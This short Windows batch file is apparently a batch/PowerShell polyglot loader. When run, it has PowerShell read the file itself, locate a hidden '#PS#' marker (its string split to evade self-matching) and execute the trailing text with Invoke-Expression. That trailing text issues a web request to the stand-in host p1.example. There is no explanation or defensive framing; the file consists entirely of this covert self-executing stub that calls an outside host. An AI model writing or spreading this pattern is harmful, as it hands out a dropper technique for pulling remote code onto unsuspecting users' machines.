@echo off
powershell -c "$s=[IO.File]::ReadAllText('%~f0'); iex $s.Substring($s.IndexOf('#PS'+'#')+4)"
exit /b 0
#PS#
iwr http://p1.example/c
